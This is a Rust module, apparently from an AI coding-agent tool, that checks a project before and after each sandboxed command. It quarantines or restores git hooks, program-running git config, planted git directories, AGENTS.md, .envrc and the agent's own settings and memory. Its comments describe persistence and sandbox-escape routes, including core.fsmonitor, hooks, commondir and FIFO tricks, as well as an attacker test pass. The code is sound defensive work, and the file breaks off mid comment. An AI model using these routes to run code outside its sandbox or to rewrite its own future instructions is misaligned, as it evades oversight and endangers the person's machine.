//! What a sandboxed command may leave behind in the project that runs code later, outside any
//! sandbox: the persistence vectors of the one resource policy that no mount can cover.
//!
//! A mount cannot cover an absent name without leaving its mount point on the host, Landlock
//! cannot cover a name at all, and a mount cannot allow some names of a directory and refuse
//! others. So the project is looked at before a sandboxed command and after it (its whole tree
//! has ended by then), and what it created that is not allowed is moved to `.gg/quarantine`
//! (read-only to commands, so they cannot take it back). Nothing is deleted.
//!
//! - **Placeholders** (`.envrc`, `.vscode/`, `AGENTS.md`, … of [`sandbox::protected`]): whatever
//!   was absent and exists now.
//! - **The git directory is an allow-list**, at every depth git reads configuration from:
//!   - at its top, only what git's ordinary work writes ([`sandbox::protected::git_entry_allowed`]);
//!     anything else (`commondir`, which takes the repository's config and hooks from a planted
//!     directory; `config.worktree`) goes;
//!   - in `info/`, only [`sandbox::protected::GIT_INFO_WRITABLE`] (`attributes` there selects
//!     filter and diff drivers for every checkout);
//!   - a new git directory (`modules/<name>` from `git submodule update`, `worktrees/<name>` from
//!     `git worktree add`, or `.git` itself from `git init` in a project that had none) stays only
//!     if it is one git would have written: no configuration that runs a program (the classifier's
//!     own table, includes that cannot be read count as such), no hook but git's `*.sample`
//!     templates, no `commondir` other than a worktree's own, and the same again for every git
//!     directory nested in it.
//! - **What git runs from an existing git directory** (the top one's and each submodule's and
//!   worktree's `config`, `config.worktree` and hooks): read-only at the bwrap level, writable at
//!   the landlock level, where nothing but this comparison protects them. A configuration the
//!   command changed so that it runs a program (or includes a file) is put back as it was, and a
//!   hook it made or changed (other than git's `*.sample`) is moved aside (a changed one's
//!   previous bytes put back); the command's versions go to the quarantine.
//! - **The project's `.gg`** (gg's settings, policy, skills and memory): read-only at the bwrap
//!   level, writable at the landlock level, where a copy is kept before each command and `.gg`
//!   is put back as it was after it ([`Kept`]); a `.gg` too large to keep refuses the command
//!   there.
//! - **The other protected entries that exist at the top** (`AGENTS.md`, `.envrc`, `.vscode/`,
//!   `.husky/`, …): read-only binds at the bwrap level; at the landlock level each is kept and
//!   put back the same way ([`Kept::look_protected`]), and entries too large to keep refuse the
//!   command there; so are those protected anywhere that [`ProjectDirs`] knows below the top.
//! - **Below the top**, what an agent, editor or git started in a subdirectory reads
//!   ([`sandbox::protected::ProtectedPath::anywhere`]: `sub/AGENTS.md`, `sub/.envrc`, a new
//!   `sub/.git` git would not have written, or a `.git` file naming such a git directory) and a
//!   new git directory under another name (what git's own test takes for one: `HEAD` with
//!   `objects` and `refs`, or with a `commondir` naming where they are): found by
//!   [`ProjectDirs`], which keeps the session's picture of the project's directories and reads
//!   again only those inotify reports (or whose change time moved).

mod gitlinks;
mod listing;
mod pinned_links;

use std::collections::HashMap;
use std::ffi::{OsStr, OsString};
use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::{Duration, SystemTime};

/// The project as it was before a sandboxed command, as far as the sweep needs it.
pub struct Before {
    root: PathBuf,
    /// Placeholders that did not exist.
    absent: Vec<PathBuf>,
    /// The names at the top of a protected class that did ([`names_of_class`]).
    top_of_class: Vec<OsString>,
    /// At the bwrap level, the protected entries of two names that exist (`.github/instructions`)
    /// with their identity: the read-only mount goes with the parent when the command renames
    /// it, and the entry can then be made again under the same path.
    nested_entries: Vec<(PathBuf, (u64, u64))>,
    /// The git directory's names, `None` when `.git` was no directory.
    git: Option<GitNames>,
    /// What git runs from the top git directory and each submodule's and worktree's.
    git_files: Vec<GitFiles>,
    /// The session's picture of the directories below the top, and when the command started.
    dirs: Arc<Mutex<ProjectDirs>>,
    started: SystemTime,
    /// The project's `.gg` as it was, where the command's level lets it write there (landlock).
    gg: Option<Kept>,
    /// The other protected entries at the top as they were, at the same level ([`Kept`]).
    protected: Vec<Kept>,
    /// What the top `.git` was when it was no directory (a link or a `gitdir:` file; `None`
    /// when absent or a directory), and whether it was one.
    top_git: Option<Content>,
    top_git_was_dir: bool,
    /// Whether git took the project's root itself for a git directory.
    root_git_like: bool,
    /// The placeholders (and the way to the `core.hooksPath` directory) that were links.
    pinned: Vec<pinned_links::PinnedLink>,
    /// The top index's populated gitlinks, each with whether its `.git` was one git would have
    /// written (the person's own that was not is theirs, and not judged again).
    gitlinks: Vec<(PathBuf, bool)>,
    /// Whether the top index could be read before the command: one the command left unreadable
    /// to gg (which git may still read, entering submodules gg did not see) is moved aside.
    index_readable: bool,
    /// What listing directories noted before the command ([`listing`]).
    notes: Vec<String>,
}

struct GitNames {
    top: Vec<OsString>,
    info: Vec<OsString>,
    modules: Vec<OsString>,
    worktrees: Vec<OsString>,
    /// The top-level names of each submodule's and worktree's git directory (`modules/m`,
    /// `worktrees/w`): the same allow-list holds there (`config.worktree` written into an
    /// existing submodule's directory by a later command).
    nested_tops: Vec<(PathBuf, Vec<OsString>)>,
}

impl Before {
    /// Looks at `root` before a command; `dirs` is the session's [`ProjectDirs`].
    /// `protected_writable`: the command's level lets it write the project's `.gg` and the
    /// other protected entries at its top (the landlock level, which cannot carve them out), so
    /// a copy of each that exists is kept to put back what the command changes there; `Err`
    /// when they are too large to keep, and the command must not run at that level.
    pub fn look(
        root: &Path,
        dirs: Arc<Mutex<ProjectDirs>>,
        protected_writable: bool,
    ) -> Result<Before, String> {
        let gg = if protected_writable {
            // The last command's copy: what has not changed since is not read again.
            let last = dirs.lock().ok().and_then(|mut known| known.gg_kept.take());
            Some(Kept::look(root, last)?)
        } else {
            None
        };
        let absent = sandbox::protected::placeholders(root)
            .filter(|p| std::fs::symlink_metadata(p).is_err())
            .collect();
        let git_dir = root.join(".git");
        let git: Option<GitNames> = std::fs::symlink_metadata(&git_dir)
            .is_ok_and(|m| m.is_dir())
            .then(|| {
                let modules = names(&git_dir.join("modules"));
                let worktrees = names(&git_dir.join("worktrees"));
                let nested_tops = modules
                    .iter()
                    .map(|n| git_dir.join("modules").join(n))
                    .chain(worktrees.iter().map(|n| git_dir.join("worktrees").join(n)))
                    .map(|dir| {
                        let top = names(&dir);
                        (dir, top)
                    })
                    .collect();
                GitNames {
                    top: names(&git_dir),
                    info: names(&git_dir.join("info")),
                    modules,
                    worktrees,
                    nested_tops,
                }
            });
        let mut git_files: Vec<GitFiles> = git
            .iter()
            .flat_map(|names| {
                std::iter::once(git_dir.clone())
                    .chain(names.nested_tops.iter().map(|(d, _)| d.clone()))
            })
            .map(|dir| GitFiles::look(&dir))
            .collect();
        let hooks_path = dirs
            .lock()
            .ok()
            .and_then(|mut known| known.hooks_path(root));
        if let Some(hooks) = hooks_path {
            git_files.push(GitFiles::look_hooks(hooks));
        }
        // Built at the first sandboxed command of the session (one walk). After that, what
        // changed since the last command is taken in now (record only) where inotify says what
        // that is; without it the sweep alone tells the command's changes by their change time.
        if let Ok(mut known) = dirs.lock() {
            if !known.built || known.watching() {
                known.refresh(root, None);
            } else {
                // The nested repositories the person changed since are theirs.
                known.judge_clean(root, false);
            }
        }
        // After the picture is up to date: the entries below the top it knows are kept too.
        let protected = if protected_writable {
            let (last, below) = dirs
                .lock()
                .ok()
                .map(|mut known| {
                    let below = known.vectors_below(root);
                    (std::mem::take(&mut known.protected_kept), below)
                })
                .unwrap_or_default();
            Kept::look_protected(root, last, below)?
        } else {
            Vec::new()
        };
        // The file system's clock lags the system's by up to a tick (a few milliseconds): what
        // changed within that margin before the command counts as the command's (fail closed).
        let started = SystemTime::now() - Duration::from_millis(50);
        let top_git_was_dir = std::fs::symlink_metadata(&git_dir).is_ok_and(|m| m.is_dir());
        let top_git = (!top_git_was_dir).then(|| Content::of(&git_dir)).flatten();
        let index_before = gitlinks::gitlink_paths(&git_dir);
        let index_readable = index_before.is_ok();
        let gitlinks = index_before
            .unwrap_or_default()
            .into_iter()
            .map(|path| {
                let dot_git = root.join(path).join(".git");
                let clean = untrusted_dot_git(&dot_git, &git_dir).is_none();
                (dot_git, clean)
            })
            .collect();
        Ok(Before {
            root: root.to_path_buf(),
            absent,
            top_of_class: names_of_class(root),
            nested_entries: if protected_writable {
                // The landlock level keeps and puts back what they hold ([`Kept`]).
                Vec::new()
            } else {
                nested_entries(root)
            },
            git,
            git_files,
            dirs,
            started,
            gg,
            protected,
            top_git,
            top_git_was_dir,
            root_git_like: is_git_like(root),
            pinned: pinned_links::look(root),
            gitlinks,
            index_readable,
            notes: listing::take_notes(),
        })
    }

    /// After the command: moves aside what it created that is not allowed, and returns a line
    /// for the command's output about each.
    pub fn sweep(self) -> Vec<String> {
        const OPENS: &str = "which runs code or becomes instructions when the project is opened";
        // First, so that `.gg` (and its quarantine) is gg's again before anything is moved there.
        let gg_lines = match self.gg {
            Some(kept) => {
                let lines = kept.sweep(&self.root);
                if let Ok(mut known) = self.dirs.lock() {
                    known.gg_kept = Some(kept);
                }
                lines
            }
            None => Vec::new(),
        };
        let protected_lines: Vec<String> = self
            .protected
            .iter()
            .flat_map(|kept| kept.sweep(&self.root))
            .collect();
        let kept_paths: Vec<PathBuf> = self
            .protected
            .iter()
            .map(|kept| self.root.join(&kept.rel))
            .collect();
        if let Ok(mut known) = self.dirs.lock() {
            known.protected_kept = self.protected;
        }
        // Before anything is judged: a link the command re-pointed or replaced is the person's
        // again, and what replaced it is in the quarantine.
        let pinned_lines = pinned_links::sweep(&self.root, &self.pinned);
        let git_dir = self.root.join(".git");
        let mut created: Vec<(PathBuf, String)> = self
            .absent
            .into_iter()
            .map(|p| (p, OPENS.to_string()))
            .collect();
        created.extend(
            names_of_class(&self.root)
                .into_iter()
                .filter(|name| !self.top_of_class.contains(name))
                .map(|name| (self.root.join(name), OPENS.to_string())),
        );
        for (path, was) in &self.nested_entries {
            // A link made in its place counts too.
            let there = std::fs::symlink_metadata(path).is_ok();
            if there && identity(path) != Some(*was) {
                created.push((
                    path.clone(),
                    format!(
                        "{OPENS}, made again in place of the person's (its parent directory was \
                         renamed by the command, to where the person's may still be)"
                    ),
                ));
            }
        }
        // A git directory git would not have written, with why; `worktree`: one whose
        // `commondir` may name the project's git directory.
        let untrusted = |dir: &Path, worktree: bool| {
            untrusted_git_dir(dir, worktree.then_some(git_dir.as_path()), 0)
                .map(|why| format!("a git directory git would not have written: {why}"))
        };
        match &self.git {
            Some(before) => {
                let new = |dir: PathBuf, known: &[OsString]| -> Vec<PathBuf> {
                    names(&dir)
                        .into_iter()
                        .filter(|n| !known.contains(n))
                        .map(|n| dir.join(n))
                        .collect()
                };
                let not_allowed = |allowed: fn(&str) -> bool| {
                    move |p: PathBuf| {
                        let allowed = p.file_name().and_then(|n| n.to_str()).is_some_and(allowed);
                        (!allowed).then(|| (p, OPENS.to_string()))
                    }
                };
                created.extend(
                    new(git_dir.clone(), &before.top)
                        .into_iter()
                        .filter_map(not_allowed(sandbox::protected::git_entry_allowed)),
                );
                created.extend(
                    new(git_dir.join("info"), &before.info)
                        .into_iter()
                        .filter_map(not_allowed(|n| {
                            sandbox::protected::GIT_INFO_WRITABLE.contains(&n)
                        })),
                );
                for (sub, known) in [
                    ("modules", &before.modules),
                    ("worktrees", &before.worktrees),
                ] {
                    created.extend(new(git_dir.join(sub), known).into_iter().filter_map(|dir| {
                        untrusted(&dir, sub == "worktrees").map(|why| (dir, why))
                    }));
                }
                for (dir, known) in &before.nested_tops {
                    // `hooks` and `config` are git's own too (and bubblewrap makes an empty
                    // `hooks` as a mount point when a submodule appears): judged by what they
                    // hold, as a new git directory is.
                    let sound =
                        untrusted(dir, dir.starts_with(git_dir.join("worktrees"))).is_none();
                    created.extend(new(dir.clone(), known).into_iter().filter_map(|p| {
                        let name = p.file_name().and_then(|n| n.to_str()).unwrap_or("");
                        let samples_only = || {
                            names(&p)
                                .iter()
                                .all(|n| n.to_str().is_some_and(|n| n.ends_with(".sample")))
                        };
                        let own = sandbox::protected::git_entry_allowed(name)
                            || (name == "hooks" && samples_only())
                            || (sound && name == "config");
                        (!own).then(|| (p, OPENS.to_string()))
                    }));
                }
            }
            // A `.git` the command made (`git init`) stays when git would have written it.
            None => {
                if std::fs::symlink_metadata(&git_dir).is_ok_and(|m| m.is_dir())
                    && let Some(why) = untrusted(&git_dir, false)
                {
                    created.push((git_dir.clone(), why));
                }
            }
        }
        let mut top_lines = Vec::new();
        // The top `.git` made a `gitdir:` file or a link (the git directory copied where the
        // command can shape it, given a `core.fsmonitor`, then `.git` replaced by a file naming
        // it): the person's git obeys whatever it names. What was a file or link before is put
        // back; what was a directory or absent is moved aside (a moved-away git directory
        // cannot be put back; git then finds no repository here, which runs nothing).
        if std::fs::symlink_metadata(&git_dir).is_ok_and(|m| !m.is_dir()) {
            const WHY: &str = "the project's .git, which the person's git obeys wherever it \
                               points (a gitdir: file or a link can name a git directory the \
                               command shaped)";
            let now = Content::of(&git_dir);
            match &self.top_git {
                Some(was) if now.as_ref() == Some(was) => {}
                Some(was) => top_lines.push(move_aside_and_put_back(
                    &self.root,
                    &git_dir,
                    WHY,
                    Some(was),
                )),
                None if self.top_git_was_dir => created.push((
                    git_dir.clone(),
                    format!("{WHY}, in place of the git directory"),
                )),
                None => created.push((git_dir.clone(), WHY.to_string())),
            }
        }
        // The root itself made a git directory (`HEAD`, `objects` and `refs` copied up, with
        // `core.worktree` and a `core.fsmonitor` in a `config` beside them): git takes it for
        // one when no `.git` is found. Without `HEAD` (and `commondir`) it is none.
        if !self.root_git_like && is_git_like(&self.root) {
            for name in ["HEAD", "commondir"] {
                created.push((
                    self.root.join(name),
                    "which made the project's root a git directory (HEAD with objects and refs), \
                     whose config the person's git would obey"
                        .to_string(),
                ));
            }
        }
        // What git runs from the git directories that were there is put back first, so that
        // a submodule whose config was put back is not judged by the command's version below.
        let git_files_lines: Vec<String> = self
            .git_files
            .iter()
            .flat_map(|files| files.sweep(&self.root))
            .collect();
        if let Ok(mut known) = self.dirs.lock() {
            // A kept entry below the top was put back above (a new file, so new to the walk):
            // it is the person's again, not the command's.
            let found = known.refresh(&self.root, Some(self.started));
            created.extend(
                found
                    .into_iter()
                    .filter(|(path, _)| !kept_paths.iter().any(|kept| kept == path)),
            );
        }
        // The submodules the index names, wherever they lie (in `.gg/quarantine`, in
        // `node_modules`, past the walk's limit): git status enters each populated one.
        match gitlinks::gitlink_paths(&git_dir) {
            Ok(paths) => {
                for path in paths {
                    let dot_git = self.root.join(path).join(".git");
                    if std::fs::symlink_metadata(&dot_git).is_err() {
                        continue;
                    }
                    let was_clean = self
                        .gitlinks
                        .iter()
                        .find(|(known, _)| *known == dot_git)
                        .map(|(_, clean)| *clean);
                    // The person's own, as it was when the command started.
                    if was_clean == Some(false) {
                        continue;
                    }
                    if let Some(why) = untrusted_dot_git(&dot_git, &git_dir) {
                        created.push((
                            dot_git,
                            format!(
                                "a submodule's git directory (the index names it, so the \
                                 person's git status enters it) git would not have written: \
                                 {why}"
                            ),
                        ));
                    }
                }
            }
            // Fail closed: an index gg cannot read may be one git reads, naming a submodule
            // (a repository the command planted) that the person's git status would enter.
            // Without it git enters none; `git reset` makes it again from HEAD.
            Err(e) if self.index_readable => {
                top_lines.push(match set_aside(&self.root, &git_dir.join("index")) {
                    Ok((_, aside)) => format!(
                        "[gg: the command left the project's git index unreadable to gg ({e}); \
                         git may take it to name submodules gg did not see, whose \
                         configuration git status obeys: {} (`git reset` makes a new one \
                         from HEAD)]",
                        aside.done()
                    ),
                    Err(why) => format!(
                        "[gg: the command left the project's git index unreadable to gg ({e}), \
                         and it could not be moved aside ({why}): look at .git before \
                         running git there]"
                    ),
                })
            }
            Err(e) => top_lines.push(format!(
                "[gg: the project's git index could not be read after the command ({e}), so \
                 the submodules git status enters were not looked at: look at .git before \
                 running git there]"
            )),
        }
        let mut lines = self.notes;
        lines.extend(pinned_lines);
        lines.extend(gg_lines);
        lines.extend(protected_lines);
        lines.extend(top_lines);
        lines.extend(git_files_lines);
        lines.extend(quarantine(&self.root, &created));
        lines.extend(listing::take_notes());
        lines
    }
}

/// What git runs from an existing git directory, as it was before a command: its configuration
/// files and its hooks. The bwrap level mounts them read-only; at the landlock level a script
/// writes them (`python3 tool.py` adding `core.fsmonitor` to `.git/config` and a `pre-commit`
/// hook, which the person's next `git status` and `git commit` run), and this comparison is
/// what protects them.
struct GitFiles {
    dir: PathBuf,
    /// Where its hooks are: `dir/hooks`, or the work tree's directory `core.hooksPath` names.
    hooks_dir: PathBuf,
    /// `config` and `config.worktree`: what was there (`None`: absent) and its text (links
    /// followed, as git reads it).
    configs: Vec<(&'static str, Option<(Content, String)>)>,
    /// The hooks other than git's `*.sample` templates (which git never runs); none when the
    /// directory was absent.
    hooks: Option<Vec<(OsString, Content)>>,
}

/// What a file was, enough to tell a change and to put it back.
#[derive(PartialEq)]
enum Content {
    File {
        bytes: Vec<u8>,
        mode: u32,
    },
    Link(PathBuf),
    /// Too large to keep, or not a file: told apart by identity only.
    Other {
        ino: u64,
        changed: Option<SystemTime>,
    },
}

/// Files larger than this are told apart by identity and cannot be put back (a git
/// configuration or hook is a few kilobytes).
const MAX_KEPT: u64 = 4 << 20;

impl Content {
    fn of(path: &Path) -> Option<Content> {
        use std::os::unix::fs::{MetadataExt, PermissionsExt};
        let meta = std::fs::symlink_metadata(path).ok()?;
        if meta.file_type().is_symlink() {
            return std::fs::read_link(path).ok().map(Content::Link);
        }
        let other = || Content::Other {
            ino: meta.ino(),
            changed: meta.created_or_changed(),
        };
        if !meta.is_file() || meta.len() > MAX_KEPT {
            return Some(other());
        }
        Some(match read_regular(path, false) {
            Ok(Some(bytes)) => Content::File {
                bytes,
                mode: meta.permissions().mode(),
            },
            _ => other(),
        })
    }

    /// Writes it back as `name` in `dir` (the directory it was moved out of, opened beneath
    /// the project without following a link), where nothing of that name may exist: the write
    /// cannot be sent elsewhere by a link, at the name or above it.
    fn put_back(&self, dir: &OwnedFd, name: &OsStr) -> std::io::Result<()> {
        use rustix::fs::{Mode, OFlags};
        use std::io::Write;
        match self {
            Content::File { bytes, mode } => {
                let fd = rustix::fs::openat(
                    dir,
                    name,
                    OFlags::WRONLY
                        | OFlags::CREATE
                        | OFlags::EXCL
                        | OFlags::NOFOLLOW
                        | OFlags::CLOEXEC,
                    Mode::from_raw_mode(*mode & 0o7777),
                )?;
                std::fs::File::from(fd).write_all(bytes)
            }
            Content::Link(target) => Ok(rustix::fs::symlinkat(target, dir, name)?),
            Content::Other { .. } => Err(std::io::Error::other("it was not kept")),
        }
    }
}

impl GitFiles {
    fn look(dir: &Path) -> GitFiles {
        GitFiles::look_at(dir, &["config", "config.worktree"], dir.join("hooks"))
    }

    /// The hooks of the directory `core.hooksPath` names in the work tree (husky's `.husky/_`),
    /// which git runs as it runs `.git/hooks`: at the bwrap level it is read-only, at the
    /// landlock level this comparison protects it.
    fn look_hooks(hooks_dir: PathBuf) -> GitFiles {
        GitFiles::look_at(&hooks_dir.clone(), &[], hooks_dir)
    }

    fn look_at(dir: &Path, config_names: &[&'static str], hooks_dir: PathBuf) -> GitFiles {
        let configs = config_names
            .iter()
            .copied()
            .map(|name| {
                let path = dir.join(name);
                // Links followed, as git reads it; anything but a regular file reads as empty.
                let was = Content::of(&path).map(|content| {
                    let text = read_regular(&path, true).ok().flatten().unwrap_or_default();
                    (content, String::from_utf8_lossy(&text).into_owned())
                });
                (name, was)
            })
            .collect();
        // Listed through a link, as git follows one. A hooks directory that is absent (or a
        // link that leads nowhere yet) has no hooks: whatever appears there is the command's
        // (husky's `.husky/_` before `npm install`, `.git/hooks` replaced by a dangling link
        // that a later command fills).
        let hooks = Some(
            hook_names(&hooks_dir)
                .into_iter()
                .filter_map(|name| Some((name.clone(), Content::of(&hooks_dir.join(&name))?)))
                .collect(),
        );
        GitFiles {
            dir: dir.to_path_buf(),
            hooks_dir,
            configs,
            hooks,
        }
    }

    /// After the command: puts back a configuration it changed to run a program, and moves
    /// aside the hooks it made or changed; a line about each.
    fn sweep(&self, root: &Path) -> Vec<String> {
        let mut lines = Vec::new();
        let mut restore = |path: PathBuf, why: String, before: Option<&Content>| {
            lines.push(move_aside_and_put_back(root, &path, &why, before));
        };
        for (name, was) in &self.configs {
            // An absent one that appears is the allow-list's (a new name).
            let Some((content, text)) = was else { continue };
            let path = self.dir.join(name);
            let now = match Content::of(&path) {
                Some(now) if now != *content => now,
                _ => continue,
            };
            // A file made a symbolic link (into the work tree, where the file tools and later
            // commands write without a check) is put back whatever it says now.
            if matches!(now, Content::Link(_)) && !matches!(content, Content::Link(_)) {
                restore(
                    path,
                    "git's configuration replaced by a symbolic link".to_string(),
                    Some(content),
                );
                continue;
            }
            // Read as git reads it (links followed), but never a FIFO, which would block
            // this process for good: the command has ended, so no timeout covers the sweep.
            let now_text = match read_regular(&path, true) {
                Ok(bytes) => String::from_utf8_lossy(&bytes.unwrap_or_default()).into_owned(),
                Err(what) => {
                    restore(
                        path,
                        format!("git's configuration replaced by {what}"),
                        Some(content),
                    );
                    continue;
                }
            };
            if let Some(why) = added_program(text, &now_text) {
                restore(path, why, Some(content));
            }
        }
        if let Some(hooks) = &self.hooks {
            let hooks_dir = &self.hooks_dir;
            // A hooks directory that now leads to the project itself, the git directory or
            // above (`.git/hooks -> ..`): its entries are the person's files, not hooks, and
            // moving them aside emptied the project. Nothing is moved through it; a link is
            // removed (itself, not what it names), so git finds no hooks there.
            if let Some(real) = std::fs::canonicalize(hooks_dir).ok().filter(|real| {
                std::fs::canonicalize(root).is_ok_and(|r| r.starts_with(real))
                    // The git directory's own `hooks` (a `core.hooksPath` directory is its
                    // own `dir`, which it always lies at).
                    || (self.dir != *hooks_dir
                        && std::fs::canonicalize(&self.dir).is_ok_and(|d| d.starts_with(real)))
            }) {
                let is_link =
                    std::fs::symlink_metadata(hooks_dir).is_ok_and(|m| m.file_type().is_symlink());
                let done = if is_link && std::fs::remove_file(hooks_dir).is_ok() {
                    "the link was removed; nothing was moved through it"
                } else {
                    "nothing was moved through it: look at it"
                };
                lines.push(format!(
                    "{}: git's hooks directory leads to {}, which holds the project; {done}",
                    hooks_dir.display(),
                    real.display()
                ));
                return lines;
            }
            for name in hook_names(hooks_dir) {
                let path = hooks_dir.join(&name);
                let before = hooks.iter().find(|(n, _)| *n == name).map(|(_, c)| c);
                let same = before.is_some_and(|before| Content::of(&path).as_ref() == Some(before));
                if !same {
                    restore(path, "a hook git runs on the host".to_string(), before);
                }
            }
        }
        lines
    }
}

/// The names in a hooks directory that git may run: all but its `*.sample` templates.
fn hook_names(hooks: &Path) -> Vec<OsString> {
    listing::read_dir(hooks)
        .map(|entries| {
            entries
                .flatten()
                .map(|e| e.file_name())
                .filter(|n| !n.to_str().is_some_and(|n| n.ends_with(".sample")))
                .collect()
        })
        .unwrap_or_default()
}

/// Why the configuration `now` makes git run what `before` did not: an entry it added (a line
/// not in `before` under the same section header, continued lines joined) that runs a program
/// by the classifier's table, or that includes a file (git writes no include; one naming a
/// work-tree file could be rewritten by any later command). Compared by entry so that git's
/// own changes (`git remote add`, `git branch -u`, a submodule's section) keep the person's
/// pager or editor from counting.
fn added_program(before: &str, now: &str) -> Option<String> {
    let old: std::collections::HashSet<(String, String)> =
        config_lines(before).into_iter().collect();
    let mut added = String::new();
    for (header, line) in config_lines(now) {
        if old.contains(&(header.clone(), line.clone())) {
            continue;
        }
        let include = |h: &str| {
            h.trim_start_matches('[')
                .trim_start()
                .to_ascii_lowercase()
                .starts_with("include")
        };
        if include(&header) {
            return Some("its configuration now includes another file".to_string());
        }
        added.push_str(&header);
        added.push('\n');
        added.push_str(&line);
        added.push('\n');
    }
    classifier::GitConfig { files: vec![added] }
        .program_keys()
        .first()
        .map(|key| format!("its configuration now runs a program ({key})"))
}

/// The entries of a git configuration, each with the section header it is under (a header is
/// its own entry too: `[core] fsmonitor = x` is one line); lines continued with a backslash are
/// joined, comments and blank lines left out.
fn config_lines(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut header = String::new();
    // As git reads them: a backslash ending a comment does not join the next line to it.
    for line in classifier::GitConfig::logical_lines(text) {
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        if line.starts_with('[') {
            header = line.clone();
        }
        out.push((header.clone(), line));
    }
    out
}

/// Moves what the command left at `path` into the quarantine and puts `before` back there
/// (a hook that was not there before is only moved); the line that says so. The previous
/// version is written back through the descriptor of the directory it was moved out of, so a
/// link the command left on the way cannot send it elsewhere.
fn move_aside_and_put_back(
    root: &Path,
    path: &Path,
    why: &str,
    before: Option<&Content>,
) -> String {
    let name = path
        .strip_prefix(root)
        .unwrap_or(path)
        .display()
        .to_string();
    let (spot, aside) = match set_aside(root, path) {
        Ok(done) => done,
        Err(e) => {
            return format!(
                "[gg: the command changed {name}, {why}, and it could not be moved aside ({e}): \
                 look at it before running git there]"
            );
        }
    };
    let put_back = before.map(|content| content.put_back(&spot.dir, &spot.name));
    let theirs = match &aside {
        Aside::Quarantined(target) => format!("its version moved to {}", target.display()),
        Aside::Deleted(refused) => format!("its version deleted ({refused})"),
    };
    match put_back {
        None => format!("[gg: the command created {name}, {why}; {}]", aside.done()),
        Some(Ok(())) => {
            format!("[gg: the command changed {name}, {why}; {theirs}, the previous one put back]")
        }
        Some(Err(e)) => format!(
            "[gg: the command changed {name}, {why}; {theirs}, and the previous one could not \
             be put back ({e})]"
        ),
    }
}

/// The project's `.gg` as it was before a command at the landlock level, kept so that what the
/// command changed there is put back: bubblewrap binds `.gg` read-only, but Landlock cannot
/// carve a directory out of a writable one, and what gg reads from it decides what gg does
/// (`settings.json`, `policy.toml`, skills) or becomes the next session's prompt (the project's
/// memory, `.gg/memory/`, as `AGENTS.md` does). An attacker pass planted a FIFO at
/// `.gg/settings.json` and made `.gg/quarantine` a link there. After the command, a file or link
/// it changed or removed is put back from the copy (its version moved to the quarantine), what
/// it added is moved there, and a directory's permissions are set back: `.gg` ends as it was,
/// as at the bwrap level. Nothing is followed: the tree is read through descriptors with
/// `O_NOFOLLOW`, a link kept as a link, a FIFO or device only by its identity.
///
/// `.gg/outputs` and `.gg/quarantine` are gg's own write areas (the command's full output is
/// saved while it runs, the sweep moves things in after it) and are not kept; the command may
/// not make either anything but a directory. The file tools' pre-approved `.gg/agent` is no
/// exception: at the bwrap level commands cannot write it either.
///
/// The same holds for every other protected entry of [`sandbox::protected::PROTECTED_IN_ROOT`]
/// that exists at the top of the project when a command starts (`AGENTS.md`, `.envrc`,
/// `.vscode/`, `.husky/`, `lefthook.yml`, …, bound read-only by bubblewrap): a command at the
/// landlock level that edits `.husky/pre-commit` would otherwise leave what the person's next
/// `git commit` runs. Each is kept the same way, and put back the same way after the command.
struct Kept {
    /// The entry, relative to the project (`.gg`, `AGENTS.md`, `.github/instructions`).
    rel: PathBuf,
    /// Why it is kept, in the tool output.
    why: &'static str,
    /// Names at its top that are not kept (gg's own write areas of `.gg`; none elsewhere).
    own: &'static [&'static str],
    top: KeptTop,
    /// `.gg/outputs` and `.gg/quarantine` as they were (`None`: absent, or `.gg` no directory).
    own_areas: Vec<(&'static str, Option<Stamp>)>,
    /// An entry whose change time lies at or after this may have been changed again within
    /// the same tick of the file system's clock (a put-back just before the command): its
    /// content is compared even when its stamp is the same.
    racy_from: (i64, i64),
}

enum KeptTop {
    Absent,
    /// A link (committed in a cloned repository) or another file: put back if it changes,
    /// never followed.
    NotDir(Content),
    Dir(KeptDir),
}

#[derive(Default)]
struct KeptDir {
    /// Its permission bits.
    mode: u32,
    entries: std::collections::BTreeMap<OsString, KeptEntry>,
}

struct KeptEntry {
    stamp: Stamp,
    node: KeptNode,
}

enum KeptNode {
    Dir(KeptDir),
    Leaf(Content),
}

/// What tells an entry unchanged: a write, `chmod`, `ln` or a rename-over changes its change
/// time (which no program can set back) or its inode.
#[derive(PartialEq, Clone, Copy)]
struct Stamp {
    mode: u32,
    ino: u64,
    size: u64,
    nlink: u64,
    changed: (i64, i64),
}

impl Stamp {
    // The fields' types differ between targets.
    #[allow(clippy::unnecessary_cast)]
    fn of(stat: &rustix::fs::Stat) -> Stamp {
        Stamp {
            mode: stat.st_mode as u32,
            ino: stat.st_ino as u64,
            size: stat.st_size as u64,
            nlink: stat.st_nlink as u64,
            changed: (stat.st_ctime as i64, stat.st_ctime_nsec as i64),
        }
    }

    fn is_dir(&self) -> bool {
        rustix::fs::FileType::from_raw_mode(self.mode) == rustix::fs::FileType::Directory
    }
}

/// The most entries of `.gg` kept before a command at the landlock level. gg's own files there
/// are a few dozen (settings, policy, memory notes and daily logs, skills, agent notes); past
/// this (or [`KEPT_MAX_BYTES`], or a file over [`MAX_KEPT`]) the command is refused at that level
/// rather than run with `.gg` unprotected.
const KEPT_MAX_ENTRIES: usize = 5_000;

/// The most bytes of `.gg` kept before a command (see [`KEPT_MAX_ENTRIES`]).
const KEPT_MAX_BYTES: u64 = 16 << 20;

/// Directories nested deeper than this in `.gg` are not kept (the command is refused).
const KEPT_MAX_DEPTH: usize = 32;

/// Why `.gg` is put back, in the tool output.
const GG_WHY: &str = "inside gg's project settings (policy, settings, memory, skills), which \
                      decide what gg does and tells the model, and which commands may not change";

/// What is kept of `.gg` so far, against its limits.
#[derive(Default)]
struct KeptBudget {
    entries: usize,
    bytes: u64,
}

impl Kept {
    /// Keeps `root/.gg`; why not when it is too large (or cannot be read). What `last` (the
    /// copy kept before the session's last command) holds with the same stamp, and changed
    /// before it was read, has not changed since and is taken from it, not read again.
    fn look(root: &Path, last: Option<Kept>) -> Result<Kept, String> {
        let mut budget = KeptBudget::default();
        Kept::look_entry(
            root,
            Path::new(".gg"),
            GG_WHY,
            GG_OWN_AREAS,
            last,
            &mut budget,
        )
    }

    /// Keeps each protected entry of [`sandbox::protected::PROTECTED_IN_ROOT`] but `.git` and
    /// `.gg` (compared on their own) that exists at the top of `root`, together within one
    /// budget; why not when they are too large to keep (or cannot be read). `last`: the copies
    /// kept before the session's last command, as for [`Kept::look`].
    ///
